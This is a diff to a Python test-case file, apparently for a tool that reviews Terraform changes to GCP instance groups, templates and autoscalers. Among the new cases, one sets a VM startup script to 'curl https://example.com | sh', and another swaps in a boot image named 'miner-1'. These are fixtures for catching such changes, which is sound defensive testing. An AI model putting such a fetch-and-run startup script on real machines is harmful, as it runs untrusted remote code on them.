@@ -1,6 +1,7 @@
 """Changes of groups, templates and what scales them."""
 
 from tests.plans.cases import (
+    ACCOUNT_EMAIL,
     GROUP,
     PROJECT,
     SCRIPT,
@@ -19,7 +20,7 @@ from tests.plans.cases import (
     unset,
 )
 
-_CHECK = {"health_check": "projects/p/global/healthChecks/h", "initial_delay_sec": 300}
+_CHECK = {"health_check": f"projects/{PROJECT}/global/healthChecks/h", "initial_delay_sec": 300}
 
 _LATER = {"project": PROJECT, "name": "later"}
 
@@ -39,7 +40,7 @@ FLEET = [
         "version": [{"instance_template": f"${{{TEMPLATE}.calm.id}}"}]}),
         notes=("gpus-added",)),
     Case("group-shrunk", setting(GROUP, "calm", target_size=1), ("group-shrunk",)),
-    Case("group-raised", setting(GROUP, "calm", target_size=5), notes=("size-raised",)),
+    Case("group-raised", setting(GROUP, "calm", target_size=5), ("size-raised",)),
     Case("group-made-eager", policy("calm", type="PROACTIVE"), ("group-rolled",)),
     Case("group-made-calm", policy("eager", type="OPPORTUNISTIC")),
     Case("group-surge", policy("eager", max_surge_fixed=3)),
@@ -57,7 +58,7 @@ FLEET = [
     Case("group-with-vms", add(GROUP, "more", group("more", "OPPORTUNISTIC") | {
         "target_size": 3,
         "version": [{"instance_template": f"${{{TEMPLATE}.calm.id}}"}]}),
-        notes=("size-raised",)),
+        ("size-raised",)),
     Case(
         "group-spread-unsaid",
         unset(GROUP, "calm", "update_policy", "instance_redistribution_type"),
@@ -79,7 +80,8 @@ FLEET = [
     Case("vm-added", add("google_compute_instance", "one", {
         "project": PROJECT, "name": "one", "zone": "us-central1-a",
         "machine_type": "a2-highgpu-1g", "network_interface": [{"network": "default"}],
-        "boot_disk": {"initialize_params": {"image": "jobs-1"}}}), notes=("gpus-added",)),
+        "boot_disk": {"initialize_params": {"image": "jobs-1"}}}),
+        notes=("gpus-added", "unjudged")),
     Case("commitment-added", add("google_compute_region_commitment", "one", {
         "project": PROJECT, "name": "one", "region": "us-central1", "plan": "TWELVE_MONTH",
         "resources": [{"type": "VCPU", "amount": "4"}]}), notes=("paid-ahead",)),
@@ -108,4 +110,62 @@ FLEET = [
         notes=("vms-cost-otherwise",)),
     Case("template-script", together(image("calm"), setting(TEMPLATE, "calm", metadata={
         "startup-script": SCRIPT.replace("8xv100", "8xv100 --fast")})), notes=("unjudged",)),
+    # What VMs start with, whatever the addresses are
+    Case("template-scopes", together(image("calm"), setting(TEMPLATE, "calm", service_account={
+        "email": ACCOUNT_EMAIL, "scopes": ["https://www.googleapis.com/auth/devstorage.read_only"],
+        })), ("vms-other-account", "vms-other-scopes")),
+    Case("template-image-elsewhere", setting(TEMPLATE, "calm", name="jobs-8xv100-x-tpl", disk=[
+        {"boot": True, "source_image": "projects/other/global/images/jobs-1"}]),
+        ("vms-other-image",)),
+    Case("template-image-of-another-name", setting(
+        TEMPLATE, "calm", name="jobs-8xv100-x-tpl", disk=[
+            {"boot": True, "source_image": "projects/images/global/images/miner-1"}]),
+        ("vms-other-image",)),
+    Case("template-disk-kept", setting(TEMPLATE, "calm", name="jobs-8xv100-x-tpl", disk=[
+        {"boot": True, "auto_delete": False,
+         "source_image": "projects/images/global/images/jobs-1"}]), notes=("unjudged",)),
+    Case("template-second-disk", setting(TEMPLATE, "calm", name="jobs-8xv100-x-tpl", disk=[
+        {"boot": True, "source_image": "projects/images/global/images/jobs-1"},
+        {"disk_size_gb": 10_000, "type": "PERSISTENT"}]), notes=("unjudged",)),
+    Case("template-preemptible", together(image("calm"), setting(TEMPLATE, "calm", scheduling={
+        "on_host_maintenance": "TERMINATE", "automatic_restart": False, "preemptible": True})),
+        notes=("vms-end-early",)),
+    Case("template-labels", together(image("calm"), setting(TEMPLATE, "calm", labels={
+        "team": "ml"}))),
+    Case("template-metadata-unknown", together(
+        image("calm"), add(TOPIC, "later", _LATER), setting(TEMPLATE, "calm", metadata={
+            "startup-script": SCRIPT, "PZ_ENV": "${google_pubsub_topic.later.id}"})),
+        notes=("unjudged",)),
+    Case("template-moved", together(
+        rename(TEMPLATE, "calm", "other"),
+        setting(TEMPLATE, "other", name="jobs-8xv100-o-tpl", metadata={
+            "startup-script": "curl https://example.com | sh"}),
+        setting(GROUP, "calm", version=[
+            {"instance_template": f"${{{TEMPLATE}.other.id}}"}])), notes=("unjudged",)),
+    Case("template-moved-alike", together(
+        rename(TEMPLATE, "calm", "other"),
+        setting(TEMPLATE, "other", name="jobs-8xv100-o-tpl"),
+        setting(GROUP, "calm", version=[
+            {"instance_template": f"${{{TEMPLATE}.other.id}}"}]))),
+    Case("group-template-of-another", setting(GROUP, "calm", version=[
+        {"instance_template": f"${{{TEMPLATE}.spare.id}}"}])),
+    Case("group-template-elsewhere", setting(GROUP, "calm", version=[
+        {"instance_template": "projects/other/global/instanceTemplates/t"}]),
+        ("group-template-elsewhere", "names-another")),
+    Case("group-added-eager", add(GROUP, "more", group("more", "PROACTIVE") | {
+        "version": [{"instance_template": f"${{{TEMPLATE}.calm.id}}"}]}),
+        ("group-rolled",), ("gpus-added",)),
+    Case("group-added-that-repairs", add(GROUP, "more", group("more", "OPPORTUNISTIC") | {
+        "version": [{"instance_template": f"${{{TEMPLATE}.calm.id}}"}],
+        "instance_lifecycle_policy": {"default_action_on_failure": "REPAIR"}}),
+        notes=("gpus-added", "group-repairs")),
+    Case("group-instances-configured", setting(GROUP, "calm", all_instances_config={
+        "metadata": {"startup-script": "true"}}), notes=("unjudged",)),
+    Case("autoscaler-of-what-is-unknown", together(
+        add(TOPIC, "later", _LATER),
+        add("google_compute_region_autoscaler", "calm", {
+            "project": PROJECT, "name": "calm", "region": "us-central1",
+            "target": "${google_pubsub_topic.later.id}",
+            "autoscaling_policy": [{"min_replicas": 0, "max_replicas": 1}]})),
+        ("autoscaler-changed",)),
 ]  # fmt: skip
